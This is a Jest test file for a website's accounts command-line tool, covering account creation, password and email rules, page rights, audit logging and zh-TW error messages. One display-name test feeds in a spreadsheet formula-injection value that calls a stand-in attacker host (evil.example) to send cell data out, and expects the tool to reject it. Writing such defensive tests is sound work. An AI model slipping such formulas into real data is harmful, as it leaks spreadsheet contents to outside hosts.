import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { runAccounts } from '../../../src/server/cli/accounts.command';
import type { AccountSummary } from '../../../src/shared/accounts.types';
import {
  freshPostgresDatabase,
  TEST_SECRET_KEY,
  testEngine,
  testSqlOn,
  type TestSql,
} from '../support/test-engine';

const ROOT = path.resolve(__dirname, '../../..');
const CLI = path.join(ROOT, 'src/server/cli/accounts.cli.ts');

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

/** The test's PostgreSQL database under `TEST_ENGINE=postgres` (DATABASE_URL); else DB_PATH's file. */
let databaseUrl: string | undefined;

/** The command's environment: the test's DB_PATH, or its DATABASE_URL on PostgreSQL. */
function environment(dbPath: string): NodeJS.ProcessEnv {
  const { DATABASE_URL: _ignored, ...inherited } = process.env;
  return {
    ...inherited,
    DB_PATH: dbPath,
    ...(databaseUrl ? { DATABASE_URL: databaseUrl, SECRET_KEY: TEST_SECRET_KEY } : {}),
  };
}

/**
 * `npm run accounts -- …` as a script would run it: its own process, no terminal. Each start loads
 * the server's code through tsx (a second or so), so only the tests of the command as a process use
 * it; the others run the same commands in this process (`accounts`).
 */
function script(dbPath: string, args: string[], stdin?: string): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ['--import', 'tsx', CLI, ...args], {
      cwd: ROOT,
      env: environment(dbPath),
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString('utf8')));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout, stderr }));
    child.stdin.end(stdin ?? '');
  });
}

/** The same command line in this process, with standard input that is not a terminal. */
async function accounts(dbPath: string, args: string[], stdin?: string): Promise<Run> {
  let stdout = '';
  let stderr = '';
  const code = await runAccounts(args, {
    env: environment(dbPath),
    stdin: Readable.from([Buffer.from(stdin ?? '', 'utf8')]),
    stdout: { write: (text: string) => (stdout += text) },
    stderr: { write: (text: string) => (stderr += text) },
  });
  return { code, stdout, stderr };
}

describe('npm run accounts', () => {
  let dir: string;
  let dbPath: string;
  let sql: TestSql;

  beforeAll(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'themesite-cli-'));
    dbPath = path.join(dir, 'data', 'site.sqlite');
    databaseUrl = testEngine() === 'postgres' ? await freshPostgresDatabase() : undefined;
    sql = testSqlOn({ dbPath, databaseUrl });
  });
  afterAll(async () => {
    await sql.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('adds the first administrator with a password from standard input, as its own process', async () => {
    const run = await script(
      dbPath,
      ['add', 'Chief', '--name', '館長', '--admin', '--password-stdin'],
      'Harbour-Lights#2026\n',
    );
    expect(run).toEqual(expect.objectContaining({ code: 0, stderr: '' }));
    // The recipe's first command makes the database, and says where.
    if (!databaseUrl) expect(run.stdout).toContain(`建立新的資料庫：${dbPath}\n`);
    // An administrator gets every right, publishing (p) among them.
    expect(run.stdout).toContain('已新增帳號：chief（館長）管理者，啟用，電子郵件：未設定，權限：*:rwdp');
    const [row] = await sql(
      "SELECT is_admin, must_change_password FROM users JOIN site_members USING (account) WHERE account = 'chief'",
    );
    const audit = await sql('SELECT account, action FROM audit_log');
    expect(row).toEqual({ is_admin: 1, must_change_password: 1 });
    expect(audit).toEqual([{ account: 'cli', action: 'account.create' }]);
  }, 30_000);

  it('refuses a common password with exit code 5 and the zh-TW reason', async () => {
    const run = await accounts(
      dbPath,
      ['add', 'clerk', '--name', '書記', '--password-stdin'],
      'password123456\n',
    );
    expect(run.code).toBe(5);
    expect(run.stderr).toMatch(/^密碼不符規則：/);
  }, 30_000);

  it('fails with a usage error when no password can be asked for', async () => {
    const run = await accounts(dbPath, ['add', 'clerk', '--name', '書記']);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('--password-stdin');
    expect((await accounts(dbPath, ['frobnicate'])).code).toBe(2);
    // The process ends with the command's code, for the scripts that read it.
    expect((await script(dbPath, ['frobnicate'])).code).toBe(2);
    expect((await accounts(dbPath, ['set-rights', 'chief', 'news', 'rwx'])).code).toBe(2);
    expect((await accounts(dbPath, ['set-rights', 'chief', 'news', 'rwdx'])).stderr).toContain(
      '例如 rwdp、rw--、rw-p',
    );
  }, 30_000);

  it('answers 4 for an existing account and for the last administrator, 3 for an unknown one', async () => {
    const again = await accounts(
      dbPath,
      ['add', 'chief', '--name', '館長', '--password-stdin'],
      'Harbour-Lights#2026\n',
    );
    expect(again.code).toBe(4);
    expect(again.stderr).toBe('帳號「chief」已經存在。\n');
    const last = await accounts(dbPath, ['disable', 'chief']);
    expect(last).toEqual(
      expect.objectContaining({ code: 4, stderr: '這是最後一位啟用中的網站管理者，不能停用。\n' }),
    );
    expect((await accounts(dbPath, ['enable', 'nobody'])).code).toBe(3);
  }, 30_000);

  it('adds an editor, sets and removes rights, disables, enables and unlocks it', async () => {
    expect(
      (await accounts(dbPath, ['add', 'clerk', '--name', '書記', '--password-stdin'], 'Quiet-Harbour#2026'))
        .code,
    ).toBe(0);
    // The older three-letter form still works: p follows w, as it did before review existed.
    const rights = await accounts(dbPath, ['set-rights', 'clerk', 'news', 'rw-']);
    expect(rights.code).toBe(0);
    expect(rights.stdout).toContain('權限：news:rw-p');
    expect(rights.stderr).toContain('網站目前沒有「news」這個頁面');
    expect((await accounts(dbPath, ['set-rights', 'clerk', '*', 'r--'])).stdout).toContain(
      '權限：*:r--- news:rw-p',
    );
    // Four letters: w without p, so the clerk submits news for review.
    expect((await accounts(dbPath, ['set-rights', 'clerk', 'news', 'rw--'])).stdout).toContain(
      '權限：*:r--- news:rw--',
    );
    const [stored] = await sql(
      "SELECT r, w, d, p FROM user_rights WHERE account = 'clerk' AND path = 'news'",
    );
    expect(stored).toEqual({ r: 1, w: 1, d: 0, p: 0 });
    expect((await accounts(dbPath, ['set-rights', 'clerk', 'news', '----'])).stdout).toContain(
      '權限：*:r---\n',
    );
    expect((await accounts(dbPath, ['disable', 'clerk'])).stdout).toContain('停用');
    expect((await accounts(dbPath, ['enable', 'clerk'])).stdout).toContain('啟用');
    expect((await accounts(dbPath, ['unlock', 'clerk'])).code).toBe(0);
  }, 60_000);

  it('lists accounts as a table with their addresses and rights (p among them), and as JSON', async () => {
    expect((await accounts(dbPath, ['set-email', 'clerk', 'clerk@museum.example'])).code).toBe(0);
    const table = await accounts(dbPath, ['list']);
    expect(table.code).toBe(0);
    const lines = table.stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(
      /^帳號\s+顯示名稱\s+角色\s+狀態\s+兩步驟登入\s+最後登入\s+電子郵件\s+權限（rwdp）$/,
    );
    expect(lines[1]).toMatch(/^chief\s+館長\s+管理者\s+啟用\s+未設定\s+從未登入\s+未設定\s+\*:rwdp$/);
    expect(lines[2]).toMatch(/^clerk\s+書記\s+編輯者\s+.*\s+clerk@museum\.example\s+\*:r---$/);
    const json = await accounts(dbPath, ['list', '--json']);
    const list = JSON.parse(json.stdout) as AccountSummary[];
    expect(list.map((account) => [account.account, account.admin, account.email])).toEqual([
      ['chief', true, null],
      ['clerk', false, 'clerk@museum.example'],
    ]);
  }, 30_000);

  it('prints a one-time password on reset, which the database requires to be changed', async () => {
    const run = await accounts(dbPath, ['reset-password', 'clerk']);
    expect(run.code).toBe(0);
    const password = run.stdout.trimEnd().split('\n').at(-1);
    expect(password).toMatch(/^[A-Za-z2-9]{4}(-[A-Za-z2-9]{4}){3}$/);
    const [row] = await sql("SELECT must_change_password FROM users WHERE account = 'clerk'");
    const details = await sql("SELECT detail FROM audit_log WHERE action = 'account.reset-password'");
    expect(row).toEqual({ must_change_password: 1 });
    expect(JSON.stringify(details)).not.toContain(password);
  }, 30_000);

  it('documents its exit codes in --help, and that three letters of rights give p with w', async () => {
    const help = await accounts(dbPath, ['--help']);
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('5  密碼不符規則');
    expect(help.stdout).toContain('set-email');
    const rightsHelp = await accounts(dbPath, ['set-rights', '--help']);
    expect(rightsHelp.stdout).toContain('p 發布');
    expect(rightsHelp.stdout).toContain('p 跟著 w');
  }, 30_000);

  it('adds an account with --email, changes it with set-email and clears it, each audited', async () => {
    const added = await accounts(
      dbPath,
      ['add', 'mailer', '--name', '收件人', '--email', 'mailer@museum.example', '--password-stdin'],
      'Quiet-Harbour#2026\n',
    );
    expect(added.code).toBe(0);
    expect(added.stdout).toContain('電子郵件：mailer@museum.example');
    const changed = await accounts(dbPath, ['set-email', 'mailer', 'desk@museum.example']);
    expect(changed).toEqual(expect.objectContaining({ code: 0, stderr: '' }));
    expect(changed.stdout).toContain('電子郵件：desk@museum.example');
    const cleared = await accounts(dbPath, ['set-email', 'mailer', '--clear']);
    expect(cleared.stdout).toContain('電子郵件：未設定');
    const [row] = await sql("SELECT email FROM users WHERE account = 'mailer'");
    // The target is read here, not in SQL: each engine spells a JSON path its own way.
    const audit = (
      await sql<{ account: string; detail: string }>(
        "SELECT account, detail FROM audit_log WHERE action = 'account.update' ORDER BY id",
      )
    )
      .map((entry) => [entry.account, JSON.parse(entry.detail) as { target?: string }] as const)
      .filter(([, detail]) => detail.target === 'mailer');
    expect(row).toEqual({ email: null });
    expect(audit).toEqual([
      ['cli', { target: 'mailer', email: 'desk@museum.example', previousEmail: 'mailer@museum.example' }],
      ['cli', { target: 'mailer', email: null, previousEmail: 'desk@museum.example' }],
    ]);
  }, 60_000);

  it('refuses a wrong address with exit code 2 and the zh-TW reason, and asks for one or --clear', async () => {
    const wrong = await accounts(dbPath, ['set-email', 'mailer', 'desk@']);
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toMatch(/^輸入資料有誤：電子郵件地址格式不正確/);
    const neither = await accounts(dbPath, ['set-email', 'mailer']);
    expect(neither.code).toBe(2);
    expect(neither.stderr).toContain('--clear');
    const both = await accounts(dbPath, ['set-email', 'mailer', 'a@museum.example', '--clear']);
    expect(both.code).toBe(2);
    expect((await accounts(dbPath, ['set-email', 'nobody', 'a@museum.example'])).code).toBe(3);
  }, 60_000);

  it('checks a display name by the API rules: 51 characters, a formula or a line break exit 2', async () => {
    for (const name of [
      '名'.repeat(51),
      '=HYPERLINK("http://evil.example/?"&A2,"開啟")',
      '＝1+2',
      '第一行\n=1+2',
    ]) {
      const run = await accounts(
        dbPath,
        ['add', 'namecheck', '--name', name, '--password-stdin'],
        'Harbour-Lights#2026\n',
      );
      expect(run.code).toBe(2);
      expect(run.stderr).toMatch(/^輸入資料有誤：顯示名稱/);
      expect(run.stderr.trimEnd().split('\n')).toHaveLength(1);
    }
    expect(await sql("SELECT account FROM users WHERE account = 'namecheck'")).toEqual([]);
  }, 60_000);

  it('refuses a DB_PATH that does not exist for every command but add, making nothing there', async () => {
    if (databaseUrl) return;
    const missing = path.join(dir, 'typo', 'site.sqlite');
    for (const args of [
      ['list'],
      ['unlock', 'chief'],
      ['reset-password', 'chief'],
      ['set-email', 'chief', '--clear'],
    ]) {
      const run = await accounts(missing, args);
      expect(run.code).toBe(6);
      expect(run.stderr).toBe(
        `找不到資料庫 ${missing}：請以 DB_PATH 指定網站的資料庫（只有 add 會建立新的資料庫）。\n`,
      );
    }
    expect(fs.existsSync(path.join(dir, 'typo'))).toBe(false);
  }, 60_000);
});
